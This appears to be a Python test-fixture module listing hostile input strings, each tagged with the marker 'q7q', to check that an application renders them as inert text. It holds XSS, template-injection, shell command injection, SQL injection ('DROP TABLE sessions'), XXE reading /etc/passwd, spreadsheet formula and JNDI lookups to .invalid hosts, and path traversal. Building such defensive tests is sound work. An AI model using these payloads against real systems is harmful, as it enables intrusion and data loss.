"""Strings that visitors may type and that must stay strings: marks, code and tricks for every place where an answer is written."""

from __future__ import annotations

MARK = "q7q"
"""In every payload: the name of the element, attribute, function or file that it would bring about."""

_HTML = [
    "<q7q>", "<b q7q>x</b>", "<script>q7q()</script>", "</script><script>q7q()</script>", "<img src=q7q.invalid>", "<img src=x onerror=q7q()>",
    "<svg onload=q7q()>", "<svg/onload=q7q()>", "<iframe src=//q7q.invalid>", "<a href=javascript:q7q()>x</a>", "\"><q7q>", "'><q7q>", "\" q7q=\"", "' q7q='",
    "` q7q=`", "<!--q7q-->", "--><q7q>", "]]><q7q>", "<![CDATA[<q7q>]]>", "</textarea><q7q>", "</title><q7q>", "</style><q7q>", "</option><q7q>", "<style>q7q{}</style>",
    "<link rel=stylesheet href=//q7q.invalid>", "<base href=//q7q.invalid>", "<meta http-equiv=refresh content=0;url=//q7q.invalid>", "<form action=//q7q.invalid>",
    "<input autofocus onfocus=q7q()>", "<details open ontoggle=q7q()>", "<math><q7q>", "<object data=//q7q.invalid>", "<embed src=//q7q.invalid>", "<video src=//q7q.invalid>",
    "&lt;q7q&gt;", "&#60;q7q&#62;", "&amp;q7q;", "&q7q", "<q7q", "< q7q >", "<Q7Q>", "<\tq7q>", "<scr<script>ipt>q7q()</script>", "%3Cq7q%3E", "\\x3cq7q\\x3e", "\\u003cq7q\\u003e",
    "＜q7q＞", "<div style=background:url(//q7q.invalid)>", "<body onload=q7q()>", "<p onclick=q7q()>x", "<template><q7q></template>", "<noscript><q7q></noscript>",
    "javascript:q7q()", "JaVaScRiPt:q7q()", "data:text/html,<q7q>", "vbscript:q7q()", "x onmouseover=q7q() y", "\"onmouseover=q7q()//", "Tom & Jerry q7q", "a < b q7q > c",
]  # fmt: skip
_MARKDOWN = [
    "*q7q*", "**q7q**", "_q7q_", "__q7q__", "`q7q`", "# q7q", "## q7q", "> q7q", "- q7q", "* q7q", "1. q7q", "+ q7q", "[q7q](javascript:q7q())", "[q7q](//q7q.invalid)", "![q7q](//q7q.invalid/x.png)",
    "[q7q]: //q7q.invalid", "<https://q7q.invalid>", "~~q7q~~", "| q7q | b |", "q7q | b\n---|---\nc | d", "q7q\n===", "q7q\n---", "    q7q", "\tq7q", "```q7q```", "~~~\nq7q\n~~~", "[^q7q]", "[^1]: q7q",
    "{: .q7q }", "x {: #q7q }", "q7q  \nq7q", "\\*q7q\\*", "q7q_q7q_q7q", "***q7q***", "* * * q7q", "---q7q", "q7q...", "\"q7q\"", "'q7q'", "q7q -- q7q", ":::q7q", "*[q7q]: x", "!!! q7q",
]  # fmt: skip
_MARKS = [
    "[FILE q7q.pdf]", "[FILE q7q.png, 100%]", "[EMOJI q7q.png, 1em]", "[QR q7q]", "[YOUTUBE q7q]", "[VIMEO q7q]", "[TARGET q7q]", "[BR]", "[TAB] q7q", "[CENTER] q7q", "[BOLDCENTER] q7q", "[NOINDENT] q7q",
    "[INDENTBY 1in] q7q", "[BORDER] q7q", "[FLUSHLEFT] q7q", "[FLUSHRIGHT] q7q", "[PAGEBREAK] q7q", "[PAGENUM] q7q", "[NBSP] q7q", "[ENDASH] q7q", "[EMDASH] q7q", "[BLANK] q7q", "[SKIPLINE] q7q",
    "[BEGIN_TWOCOL] q7q [BREAK] x [END_TWOCOL]", "[START_INDENTATION] q7q", "[FIELD q7q]", "[FIELD q7q] x", "[INDENT] q7q", "[SECTION q7q]", ":q7q:", ":user: q7q", ":fas-fa-q7q:", "{q7q}", "{q7q|x}", "{ q7q }", "[[q7q]]",
    "[VERTICAL_LINE] q7q", "[REDACTION_SPACE] q7q", "[HYPHEN] q7q", "[TIGHTSPACING] q7q",
]  # fmt: skip
_CODE = [
    "${ q7q }", "${ 6*7 } q7q", "${q7q()}", "$ { q7q }", "<% q7q %>", "<%! import q7q %>", "<%include file='q7q'/>", "<%def name='q7q()'></%def>", "<%doc>q7q</%doc>", "<%text>q7q</%text>", "% if q7q:", "% q7q", "## q7q mako",
    "%% q7q", "\\${ q7q }", "{{ q7q }}", "{{ 6*7 }} q7q", "{{ q7q.__class__ }}", "{{ ''.__class__.__mro__ }} q7q", "{% q7q %}", "{% for q7q in x %}", "{%p if q7q %}", "{%tr for q7q in x %}", "{%r q7q %}", "{{p q7q }}", "{{r q7q }}", "{# q7q #}",
    "{{ cycler.__init__.__globals__.os }} q7q", "{{ config }} q7q", "{{ self }} q7q", "{% import 'os' as q7q %}", "{{ request.q7q }}", "#{ q7q }", "@{ q7q }", "*{ q7q }", "[[${q7q}]]", "<#assign q7q=1>", "{php}q7q{/php}", "<?php q7q(); ?>", "<?xml q7q?>",
    "__import__('os').system('touch q7q')", "'; import os; os.system('touch q7q') #", "\"; q7q(); \"", "');q7q();//", "eval('q7q')", "exec('q7q')", "().__class__.__bases__[0] q7q", "lambda: q7q", "f'{q7q}'", "%s %d %(q7q)s", "{0} {q7q}", "{0.__class__} q7q",
    "$(touch q7q)", "`touch q7q`", "; touch q7q", "| touch q7q", "&& touch q7q", "\\$q7q", "$q7q", "${q7q:-x}", "!q7q", "q7q\\", "\\q7q", "\\n q7q", "\\\\q7q", "None q7q", "True q7q", "nan q7q",
]  # fmt: skip
_OFFICE = [
    "</w:t></w:r></w:p><w:p><w:r><w:t>q7q", "<w:br/>q7q", "<w:instrText>INCLUDETEXT q7q</w:instrText>", "<w:drawing>q7q", "&xxe; q7q", "<!DOCTYPE q7q [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<!ENTITY q7q>", "<?mso-application q7q?>",
    "<xml:q7q>", "{ INCLUDEPICTURE \"http://q7q.invalid/\" }", "{ DDEAUTO cmd q7q }", "{ HYPERLINK \"q7q\" }", "DDE q7q", "<text:p>q7q</text:p>", "=1+1 q7q", "=cmd|'/c calc'!q7q", "+1+q7q", "-1-q7q", "@SUM(q7q)", "\t=q7q()", "=HYPERLINK(\"http://q7q.invalid\")", "=IMPORTXML(\"http://q7q.invalid\")",
    "=WEBSERVICE(\"http://q7q.invalid\")", "%PDF-q7q", "(q7q) Tj", "q7q) Tj ET (", "\\(q7q\\)", "<< /S /JavaScript /JS (q7q) >>", "/q7q", "endobj q7q", "stream q7q endstream", "<</Type/q7q>>", "\\245q7q", "q7q;\"a\",b", "\"q7q\",\"b\"", "q7q,b;c",
]  # fmt: skip
_PATHS = [
    "../q7q", "../../../../etc/passwd q7q", "..\\..\\q7q", "/etc/q7q", "C:\\q7q", "\\\\q7q\\share", "file:///q7q", "http://q7q.invalid/", "//q7q.invalid/", "q7q.pdf/../x", "q7q/", "q7q\\x", ".q7q", "q7q.", "con q7q", "aux.q7q", "q7q:stream", "q7q?x=y", "q7q#x", "q7q%00", "q7q%2e%2e%2f", "~/q7q",
    "q7q*", "q7q|x", "q7q<x>", "q7q\"x\"", "q7q'x'", "q7q;x", "q7q@[::1]", "q7q@evil.invalid", "q7q%0d%0aSet-Cookie: x=y", "q7q\\r\\nX: y", "Bcc: q7q@evil.invalid", "q7q, evil@evil.invalid", "<q7q@evil.invalid>", "=?utf-8?q?q7q?=",
    "q7q' OR '1'='1", "q7q'; DROP TABLE sessions; --", "q7q\" OR \"\"=\"", "q7q) UNION SELECT 1 --", "q7q/*x*/", "q7q -- x", "1; q7q", "q7q\\'", "q7q%' x", "_q7q_%", "${jndi:ldap://q7q.invalid/x}", "[31mq7q", "level=error q7q", "q7q | 2026-01-01 ERROR",
    "{\"q7q\": 1}", "[\"q7q\"]", "!!python/object:q7q", "&q7q *q7q", "- q7q: x", "q7q: |", "--- q7q", "... q7q", "? q7q", "!q7q x",
]  # fmt: skip
_LETTERS = [
    "q7q \u202eexe.fdp", "\u202aq7q\u202c", "\u2066q7q\u2069", "q7q\u200bx", "q7q\u200dx", "q7q\u00adx", "\ufeffq7q", "q7q\u2028x", "q7q\u2029x", "q7q\u00a0x", "ＱＱ q7q", "q7q é", "q7q e\u0301", "مرحبا q7q", "שלום q7q", "你好 q7q", "こんにちは q7q", "한국어 q7q",
    "ไทย q7q", "q7q 🏠", "q7q 👩‍👩‍👧", "q7q 🇺🇸", "q7q Z͑ͫ̓̑a", "q7q ﷽", "q7q ﬁ", "q7q İı", "q7q ß", "q7q ǆ", "q7q 𝒜", "q7q \ue000", "q7q \ufffd", "q7q “x”", "q7q ‘x’", "q7q – —", "q7q …", "q7q €£¥", "O'Brien q7q", "D’Angelo q7q", "q7q-Smith", "Q7q, Jr.", "q7q  x", "q7q \\ x",
    "q7q" + "x" * 500, "q7q " * 60, "q7q " + "<" * 200, "q7q " + "*" * 200, "q7q " + "[" * 200, "q7q " + "{" * 200, "q7q " + "(" * 200,
]  # fmt: skip

STRINGS: tuple[str, ...] = tuple(dict.fromkeys([*_HTML, *_MARKDOWN, *_MARKS, *_CODE, *_OFFICE, *_PATHS, *_LETTERS]))
REFUSED: tuple[str, ...] = (*(f"q7q{chr(code)}x" for code in (*range(0, 9), 11, 12, *range(14, 32), 127)), "q7q\ud800", "q7q\udfff")
"""Control characters and lone surrogates: refused at the door."""
assert len(STRINGS) >= 300, len(STRINGS)  # noqa: S101 - the bar's own number
